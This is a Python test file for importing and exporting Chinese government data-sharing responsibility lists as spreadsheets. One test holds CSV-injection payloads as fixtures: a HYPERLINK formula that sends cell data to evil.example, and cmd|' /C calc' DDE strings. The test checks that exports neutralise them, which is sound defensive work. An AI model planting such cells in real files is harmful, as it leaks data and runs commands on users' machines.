"""Responsibility lists in and out: a department's sheet, as it writes it, imports into a real
node; the export imports back unchanged; a bad sheet reports every bad cell and stores nothing."""

from __future__ import annotations

import dataclasses
import pathlib
import random

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from conftest import ROOT
from harness.seed import entries_for
from node import config as config_mod, wire
from node.catalog import lists
from node.catalog.lists.columns import COLUMNS, VALUES
from node.model.rules import DataItem
from cli import main
from node.proto import catalog_pb2

DEPARTMENTS = {"130100005": "石家庄市数据和政务服务局", "130000001": "河北省公安厅"}
CONTENT = ("name", "summary", "provider_code", "provider_name", "region_code", "category", "data_items", "share_type",
           "share_condition", "not_shared_basis", "share_method", "open_type", "update_cycle", "source_system",
           "keywords")


@pytest.fixture
def hebei(tmp_path, start_node):
    """A started Hebei node and its config file (whose departments the import reads)."""
    path = tmp_path / "hebei.yaml"
    path.write_text(yaml.safe_dump({
        "node": {"id": "hebei", "role": "provincial", "region_code": "130000"}, "listen": "127.0.0.1:0",
        "insecure": True, "database": str(tmp_path / "hebei.db"), "store": {"synchronous": "normal"},
        "departments": [{"code": c, "name": n} for c, n in DEPARTMENTS.items()], "log": {"level": "warning"},
        "sharing": {"beyond_calendar": "weekdays"},
    }, allow_unicode=True))
    client = start_node(config_mod.load(path))
    client.config_path = str(path)
    return client


def cascade(*args: str):
    return CliRunner().invoke(main, [str(a) for a in args])


def import_(client, path, *options):
    return cascade("entry", "import", path, "--by-name", "--config", client.config_path, *options,
                   "--target", client.node.address)


def listed(client) -> list:
    found, token = [], ""
    while True:
        page = client.catalog.ListEntries(catalog_pb2.ListEntriesRequest(page_size=500, page_token=token))
        found += [wire.entry_from_proto(m) for m in page.entries]
        token = page.next_page_token
        if not token:
            return found


def content(entry) -> tuple:
    return tuple(getattr(entry, f) for f in CONTENT)


# -- a department's sheet, written as departments write them ------------------------------------

def department_entries(count: int) -> list:
    """COUNT realistic entries of the two departments, names unique within each department, as a
    list holds them: a sheet has no column for an item's key or personal marks (docs/exchange.md)."""
    entries, names = [], set()
    for code, name in DEPARTMENTS.items():
        for entry in entries_for(code, name, count, seed="list"):
            if (code, entry.name) not in names:
                names.add((code, entry.name))
                entries.append(dataclasses.replace(entry, data_items=tuple(
                    dataclasses.replace(i, key=False, personal="") for i in entry.data_items)))
    random.Random(7).shuffle(entries)
    return entries[:count]


def spelled(rng: random.Random, kind: str, value: str) -> str:
    """Any of the spellings of an enumerated value: the label, another, or the English one."""
    label, others = VALUES[kind][value]
    return rng.choice([label, value, *others])


def written_items(rng: random.Random, items) -> str:
    texts = []
    for item in items:
        kind = spelled(rng, "item_type", item.type)
        opening, closing = rng.choice([("(", ")"), ("（", "）")])
        comma = rng.choice([",", "，", ", "])
        if item.type == "string" and not item.length:
            texts.append(item.name)
        elif not item.length:
            texts.append(f"{item.name}{opening}{kind}{closing}")
        elif item.type == "string" and rng.random() < 0.3:
            texts.append(f"{item.name}{opening}varchar({item.length}){closing}")
        else:
            texts.append(f"{item.name}{opening}{kind}{comma}{item.length}{closing}")
    text = texts[0]
    for piece in texts[1:]:
        text += rng.choice(["、", "，", ",", ";", "；", "\n", " 、 "]) + piece
    return text


# Headers as a department might write them: Chinese, synonyms, English field names, marks.
MIXED_HEADERS = {"department": "数据所属部门", "name": "Name", "data_items": "数据项（必填）", "share_type": "share_type",
                 "share_condition": "共享条件", "not_shared_basis": "不共享依据", "update_cycle": "更新频率",
                 "resource_code": "资源代码", "summary": "摘要", "share_method": "Share Method", "open_type": "开放类型",
                 "keywords": "关键字", "source_system": "source_system", "category": "分类"}


def write_department_sheet(path: pathlib.Path, entries, *, coded: int = 30) -> None:
    """An .xlsx with a title row, 序号 and 备注 columns, the mixed headers, departments by name
    or code (a block of rows under one merged cell), and the first CODED rows with their codes."""
    rng = random.Random(11)
    keys = list(MIXED_HEADERS)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["河北省政务数据共享责任清单（2024年版）"])
    sheet.append(["序号", *[MIXED_HEADERS[k] for k in keys], "备注"])
    for i, entry in enumerate(entries, start=1):
        cell = {
            "department": rng.choice([entry.provider_code, entry.provider_name]),
            "name": entry.name, "data_items": written_items(rng, entry.data_items),
            "share_type": spelled(rng, "share_type", entry.share_type),
            "share_condition": entry.share_condition, "not_shared_basis": entry.not_shared_basis,
            "update_cycle": spelled(rng, "update_cycle", entry.update_cycle),
            "resource_code": entry.resource_code if i <= coded else "", "summary": entry.summary,
            "share_method": spelled(rng, "share_method", entry.share_method),
            "open_type": spelled(rng, "open_type", entry.open_type),
            "keywords": rng.choice(["、", "，", ",", "；"]).join(entry.keywords), "source_system": entry.source_system,
            "category": spelled(rng, "category", entry.category),
        }
        sheet.append([str(i), *[cell[k] for k in keys], ""])
    sheet.merge_cells("A1:H1")
    # rows 3.. hold the entries; give the first two rows of one department a merged department cell
    first = next(r for r in range(3, len(entries) + 1) if entries[r - 3].provider_code == entries[r - 2].provider_code)
    sheet.cell(first, 2).value = entries[first - 3].provider_name
    sheet.merge_cells(start_row=first, start_column=2, end_row=first + 1, end_column=2)
    book.save(path)


def read_back(path) -> lists.rows.Read:
    read = lists.read_rows(lists.read_sheet(path), lists.Departments(names=DEPARTMENTS, by_name=True))
    assert read.problems == []
    return read


# -- the round trips ------------------------------------------------------------------------------

def test_a_120_row_sheet_imports_and_its_export_imports_back_unchanged(hebei, tmp_path):
    entries = department_entries(120)
    original = tmp_path / "清单.xlsx"
    write_department_sheet(original, entries)

    result = import_(hebei, original)
    assert result.exit_code == 0, result.output
    assert "created 120, updated 0, unchanged 0" in result.stdout
    stored = listed(hebei)
    assert sorted(content(e) for e in stored) == sorted(content(e) for e in entries)
    # rows with a 资源代码 keep it; the others got theirs from the node, after every code the file names
    codes = {(e.provider_code, e.name): e.resource_code for e in stored}
    assert all(codes[(e.provider_code, e.name)] == e.resource_code for e in entries[:30])
    highest = {p: max(int(e.resource_code[-6:]) for e in entries[:30] if e.provider_code == p) for p in DEPARTMENTS}
    assert all(int(codes[(e.provider_code, e.name)][-6:]) > highest[e.provider_code] for e in entries[30:])

    exported = tmp_path / "export.xlsx"
    result = cascade("entry", "export", exported, "--target", hebei.node.address)
    assert result.exit_code == 0 and "exported 120 entries" in result.stdout, result.output
    assert [c.value for c in next(openpyxl.load_workbook(exported).active.iter_rows(max_row=1))] == [
        c.header for c in COLUMNS]
    # the same columns: every row of the original reads back from the export, with its code
    before = {(r.entry.provider_code, r.entry.name): r.entry for r in read_back(original).rows}
    after = {(r.entry.provider_code, r.entry.name): r.entry for r in read_back(exported).rows}
    assert {k: content(e) for k, e in after.items()} == {k: content(e) for k, e in before.items()}
    assert all(after[k].resource_code == codes[k] for k in after)

    result = cascade("entry", "import", exported, "--target", hebei.node.address)  # no options: codes name all
    assert result.exit_code == 0, result.output
    assert "created 0, updated 0, unchanged 120" in result.stdout
    # importing the original again matches its code-less rows by name: nothing changes either
    result = import_(hebei, original, "--dry-run")
    assert "would create 0, update 0, leave 120 unchanged" in result.stdout, result.output
    assert hebei.node.store.count_entries() == (120, 120)


def test_csv_in_gb18030_round_trips_and_exports_the_same_bytes_twice(hebei, tmp_path):
    entries = department_entries(40)
    headers, rows = lists.entries_to_rows(dataclasses.replace(e, resource_code="") for e in entries)
    english = [next(c.key for c in COLUMNS if c.header == h) for h in headers]  # English field names
    original = tmp_path / "list.csv"
    original.write_bytes(("\r\n".join(",".join(f'"{v}"' for v in row) for row in [english, *rows]) + "\r\n")
                         .encode("gb18030"))
    result = import_(hebei, original)
    assert result.exit_code == 0 and "created 40, updated 0, unchanged 0" in result.stdout, result.output
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    for path in (first, second):
        assert cascade("entry", "export", path, "--target", hebei.node.address).exit_code == 0
    assert first.read_bytes() == second.read_bytes() and first.read_bytes().startswith(b"\xef\xbb\xbf")
    result = cascade("entry", "import", first, "--target", hebei.node.address)
    assert "created 0, updated 0, unchanged 40" in result.stdout, result.output
    stdout = cascade("entry", "export", "-", "--provider", "130000001", "--target", hebei.node.address)
    assert stdout.stdout_bytes.decode("utf-8-sig").splitlines()[0] == ",".join(c.header for c in COLUMNS)


# Cells a spreadsheet would run as formulas (OWASP's CSV injection examples, and a value that
# was already quoted), in the fields a department writes freely.
FORMULAS = dict(name="=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", summary="+1+cmd|' /C calc'!A0",
                source_system="@SUM(1+1)*cmd|' /C calc'!A0", share_type="conditional",
                share_condition="-2+3+cmd|' /C calc'!A0", keywords=("-1", "企业"),
                data_items=(DataItem("=A1", "string", 20, "'=已加引号"), DataItem("企业名称", "string", 200)))


def test_a_csv_export_runs_no_formula_and_imports_back_unchanged(hebei, tmp_path):
    entries = [dataclasses.replace(e, **{**FORMULAS, "name": f"{FORMULAS['name']}{i}"}) for i, e in
               enumerate(department_entries(3))]
    reply = hebei.catalog.PublishEntries(iter([catalog_pb2.PublishEntriesRequest(
        entries=[wire.entry_to_proto(e) for e in entries])]))
    assert reply.created == 3
    path = tmp_path / "export.csv"
    assert cascade("entry", "export", path, "--target", hebei.node.address).exit_code == 0
    import csv

    with open(path, encoding="utf-8-sig", newline="") as f:
        cells = [c for row in list(csv.reader(f))[1:] for c in row]
    # what Excel would run starts with a quote; a plain number (-1 alone) would not, but the
    # keywords cell holds more than the number
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
    assert {c for c in cells if c.startswith("'")} >= {"'" + FORMULAS["summary"], "'" + FORMULAS["source_system"],
                                                       "'" + FORMULAS["share_condition"]}
    result = cascade("entry", "import", path, "--target", hebei.node.address)
    assert result.exit_code == 0 and "created 0, updated 0, unchanged 3" in result.stdout, result.output
    after = {e.resource_code: e for e in listed(hebei)}
    assert sorted(content(e) for e in after.values()) == sorted(content(e) for e in entries)


def test_a_sheet_with_bad_cells_reports_every_one_and_stores_nothing(hebei, tmp_path):
    good = department_entries(100)
    assert cascade("entry", "import", _sheet(tmp_path / "first.xlsx", good[:3]), "--config", hebei.config_path,
                   "--target", hebei.node.address).exit_code == 0
    rows = [dict(row) for row in _rows(good)]
    bad = {  # file row (the header is row 1) -> {header: bad value}
        5: {"共享类型": "有时共享"},
        9: {"更新周期": "每小时", "数据项": "姓名、姓名"},
        20: {"共享类型": "有条件共享", "共享条件": ""},
        33: {"数据所属部门": "河北省教育厅"},
        47: {"数据项": "姓名(整数x,5)、年龄(整数,abc)"},
        61: {"共享信息名称": "名" * 201},
        80: {"资源代码": "1301/12"},
        95: {"共享类型": "不予共享", "不予共享依据": ""},
    }
    for row, cells_ in bad.items():
        rows[row - 2].update(cells_)
    path = _sheet(tmp_path / "bad.xlsx", rows=rows)
    result = import_(hebei, path)
    assert result.exit_code == 1
    reported = [line for line in result.stderr.splitlines() if line.startswith(str(path))]
    assert [tuple(line[len(str(path)) + 1 :].split(":")[:2]) for line in reported] == [
        ("5", "共享类型"), ("9", "数据项"), ("9", "更新周期"), ("20", "共享条件"), ("33", "数据所属部门"), ("47", "数据项"),
        ("61", "共享信息名称"), ("80", "资源代码"), ("95", "不予共享依据")], reported
    assert f"{path}:9:数据项: item 2 name: must be unique within the entry ('姓名' repeats)" in reported
    assert f"{path}:5:共享类型: must be one of 无条件共享、有条件共享、不予共享 (got '有时共享')" in reported
    assert "nothing stored" in result.stderr
    assert hebei.node.store.count_entries() == (3, 3)
    assert import_(hebei, path, "--dry-run").exit_code == 1
    assert hebei.node.store.count_entries() == (3, 3)


def _rows(entries) -> list[dict]:
    headers, rows = lists.entries_to_rows(entries)
    return [dict(zip(headers, row)) for row in rows]


def _sheet(path, entries=(), rows=None) -> pathlib.Path:
    rows = rows if rows is not None else _rows(entries)
    headers = [c.header for c in COLUMNS]
    lists.write_sheet(path, headers, [[row[h] for h in headers] for row in rows])
    return path


def test_missing_columns_and_unknown_headers(tmp_path):
    path = tmp_path / "few.csv"
    path.write_text("数据所属部门,共享信息名称,联系人\n河北省公安厅,人口,张三\n", encoding="utf-8")
    read = lists.read_rows(lists.read_sheet(path), lists.Departments(names=DEPARTMENTS, by_name=True))
    assert [(p.row, p.column, p.rule) for p in read.problems] == [
        (1, "数据项", "column missing"), (1, "共享类型", "column missing"), (1, "更新周期", "column missing")]
    assert read.ignored == ["联系人"]
    with pytest.raises(lists.ListFileError, match="no header row"):
        (tmp_path / "none.csv").write_text("a,b\n1,2\n")
        lists.read_sheet(tmp_path / "none.csv")


def test_codes_and_names_are_checked_across_the_sheet(tmp_path):
    path = tmp_path / "codes.csv"
    path.write_text(
        "资源代码,数据所属部门,共享信息名称,数据项,共享类型,更新周期\n"
        "130000001/000001,河北省公安厅,人口,姓名,无条件共享,每日\n"
        "130000001/000001,河北省公安厅,户籍,姓名,无条件共享,每日\n"  # the code again
        ",河北省公安厅,人口,姓名,有时共享,每日\n"  # the name again, and a bad share type
        "130100005/000001,河北省公安厅,车辆,姓名,无条件共享,每日\n"  # another department's code
        "130100005/000002,130100005,车辆,姓名,无条件共享,每日\n", encoding="utf-8")
    read = lists.read_rows(lists.read_sheet(path), lists.Departments(names=DEPARTMENTS, by_name=True))
    assert [(p.row, p.column, p.rule) for p in read.problems] == [
        (3, "资源代码", "repeats row 2"),
        (4, "共享信息名称", "repeats row 2 of the same department"),
        (4, "共享类型", "must be one of 无条件共享、有条件共享、不予共享 (got '有时共享')"),
        (5, "数据所属部门", "河北省公安厅 is department 130000001, but its 资源代码 is 130100005's"),
    ]
    assert [(r.row, r.entry.provider_name) for r in read.rows] == [(2, "河北省公安厅"), (6, "石家庄市数据和政务服务局")]
    only = lists.read_rows(lists.read_sheet(path), lists.Departments(only="130000001", names=DEPARTMENTS))
    assert [(p.row, p.column) for p in only.problems if p.row in (5, 6)] == [(5, "资源代码"), (6, "数据所属部门")]


def test_the_plan_matches_rows_without_a_code_by_name():
    from conftest import make_entry

    held = [make_entry(seq=1, name="人口"), make_entry(seq=2, name="户籍"), make_entry(seq=3, name="户籍"),
            make_entry(seq=4, name="车辆", withdrawn=True), make_entry(seq=5, name="婚姻")]
    rows = [dataclasses.replace(held[0], resource_code=""),                      # 人口: the same, by name
            dataclasses.replace(held[1], resource_code=""),                      # 户籍: two of that name
            dataclasses.replace(held[3], withdrawn=False),                       # 车辆: published again
            make_entry(name="新的", resource_code=""),                            # new: the node gives its code
            dataclasses.replace(held[4], resource_code="", summary="改"),        # 婚姻, by name, changed
            dataclasses.replace(held[4], name="婚姻登记")]                        # ... renamed by code
    read = lists.rows.Read([lists.Row(i + 2, e) for i, e in enumerate(rows)], [], [], {})
    planned, problems = lists.plan(read, held)
    assert [(p.row, p.entry.resource_code, p.outcome) for p in planned] == [
        (2, "130100005/000001", "unchanged"), (4, "130100005/000004", "updated"), (5, "", "created"),
        (7, "130100005/000005", "updated")]
    assert [(p.row, p.column, p.rule.split(":")[0]) for p in problems] == [
        (3, "共享信息名称", "names 2 entries of the department (130100005/000002, 130100005/000003)"),
        (6, "共享信息名称", "is the entry 130100005/000005, which row 7 names by code")]


def test_department_for_every_row_and_a_dry_run_that_changes_nothing(hebei, tmp_path):
    rows = _rows([e for e in department_entries(100) if e.provider_code == "130000001"][:10])
    for row in rows:
        row["数据所属部门"], row["资源代码"] = "", ""
    path = _sheet(tmp_path / "police.xlsx", rows=rows)
    result = cascade("entry", "import", path, "--department", "130000001", "--target", hebei.node.address)
    assert result.exit_code == 1 and f"{path}:2:数据所属部门: department 130000001 has no name here" in result.stderr
    base = ("entry", "import", path, "--department", "130000001", "--config", hebei.config_path,
            "--target", hebei.node.address)
    result = cascade(*base, "--dry-run")
    assert result.exit_code == 0 and "would create 10, update 0, leave 0 unchanged" in result.stdout
    assert "(node assigns)" in result.stdout and hebei.node.store.count_entries() == (0, 0)
    assert "created 10, updated 0, unchanged 0" in cascade(*base).stdout
    assert {e.provider_code for e in listed(hebei)} == {"130000001"}
    unreachable = cascade("entry", "import", path, "--department", "130000001", "--config", hebei.config_path,
                          "--dry-run", "--target", "127.0.0.1:1")
    assert unreachable.exit_code == 0 and "10 rows, every cell good; the node is not reachable" in unreachable.stdout


def test_the_template_is_what_its_script_makes_and_imports(tmp_path):
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_template", ROOT / "configs" / "examples" / "make_template.py")
    script = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(script)
    xlsx, csv = script.make(tmp_path)
    committed = ROOT / "configs" / "examples"
    assert csv.read_bytes() == (committed / "responsibility-list.csv").read_bytes()
    assert xlsx.read_bytes() == (committed / "responsibility-list.xlsx").read_bytes(), (
        "configs/examples/responsibility-list.xlsx differs from what make_template.py makes: run it")
    node_yaml = yaml.safe_load((ROOT / "configs" / "node.yaml").read_text(encoding="utf-8"))
    names = {d["code"]: d["name"] for d in node_yaml["departments"]}
    for path in (committed / "responsibility-list.xlsx", committed / "responsibility-list.csv"):
        read = lists.read_rows(lists.read_sheet(path), lists.Departments(names=names, by_name=True))
        assert read.problems == [] and len(read.rows) == len(script.EXAMPLES)
        assert {r.entry.share_type for r in read.rows} == {"unconditional", "conditional", "not_shared"}
